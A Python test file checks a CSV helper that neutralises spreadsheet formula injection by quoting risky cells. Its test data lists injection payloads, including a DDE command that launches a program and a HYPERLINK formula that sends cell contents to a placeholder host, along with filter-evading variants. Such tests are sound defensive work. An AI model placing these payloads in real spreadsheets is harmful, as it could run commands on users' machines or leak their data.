"""Cells that a spreadsheet would compute, and what reads them back."""

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from labsupport.core.csv_text import guarded, revealed
from labsupport.records.tables import read_table, write_table

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|x!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://x.invalid?"&A1)',
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
    "'=1+1",
]


def as_csv(*cells):
    """One row of cells as CSV."""
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerow(cells)
    return text.getvalue()


def cells(text):
    return next(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_a_text(formula):
    assert cells(guarded(as_csv("a", formula))) == ["a", f"'{formula}"]


@pytest.mark.parametrize(
    "text", ["==", ">=", "-", "-0.5", "+1e-3", "-.5", "-inf", "a=b", "a, b", "'quoted'", "", "é"]
)
def test_other_cells_stay_as_they_are(text):
    assert guarded(as_csv("a", text)) == as_csv("a", text)


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0\r")), min_size=1))
def test_every_text_comes_back(texts):
    assert cells(revealed(guarded(as_csv(*texts)))) == texts


def test_a_line_that_an_unquoted_return_begins_is_guarded_as_well():
    assert "'=1+1" in guarded("a\r=1+1,b\n")


def test_a_table_keeps_its_texts_and_numbers(tmp_path):
    frame = pd.DataFrame({"=1+1": FORMULAS[:3], "points": [-0.1, 0.1 + 0.2, float("nan")]})
    write_table(tmp_path / "t.csv", frame)
    text = (tmp_path / "t.csv").read_text()
    assert text.startswith("'=1+1,points\n'=cmd|' /C calc'!A0,-0.1\n")
    pd.testing.assert_frame_equal(read_table(tmp_path / "t.csv"), frame, check_exact=False)
